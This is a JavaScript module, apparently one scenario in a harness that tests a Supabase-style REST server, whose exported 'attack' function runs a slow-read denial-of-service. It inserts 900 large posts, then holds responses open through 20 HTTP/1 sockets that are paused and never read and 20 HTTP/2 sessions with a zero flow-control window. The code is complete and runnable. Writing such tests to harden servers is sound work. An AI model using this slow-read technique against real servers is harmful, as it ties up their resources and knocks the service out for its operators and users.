import { connect as connectHttp2 } from 'node:http2';
import { connect } from 'node:net';

export const name = 'forty large answers that are never read';

const POSTS = 900;
const CLIENTS = 20;

/** Half of them over HTTP/1, without reading; half over HTTP/2, with a window of zero. */
export async function attack(server) {
  const attacker = await server.signUp('Asha Attacker');
  const content = 'x'.repeat(8000);
  const rows = Array.from({ length: POSTS }, () => ({ user_id: attacker.id, content }));
  const inserted = await server.request('POST', '/rest/v1/posts', { token: server.serviceKey, body: rows });
  if (!inserted.ok) throw new Error(`The posts were refused: ${await inserted.text()}`);
  const { hostname, port } = new URL(server.url);
  const path = '/rest/v1/posts?select=content&limit=1000';
  const headers = { apikey: server.anonKey, authorization: `Bearer ${attacker.token}` };
  const lines = Object.entries({ host: hostname, ...headers }).map(([name, value]) => `${name}: ${value}\r\n`);
  const sockets = Array.from({ length: CLIENTS }, () => {
    const socket = connect(Number(port), hostname).on('error', () => undefined);
    socket.pause();
    socket.write(`GET ${path} HTTP/1.1\r\n${lines.join('')}\r\n`);
    return socket;
  });
  const sessions = Array.from({ length: CLIENTS }, () => {
    const session = connectHttp2(server.url, { settings: { initialWindowSize: 0 } }).on('error', () => undefined);
    session.request({ ':path': path, ...headers }).on('error', () => undefined);
    return session;
  });
  await new Promise((resolve) => setTimeout(resolve, 10_000));
  for (const socket of sockets) socket.destroy();
  for (const session of sessions) session.destroy();
}
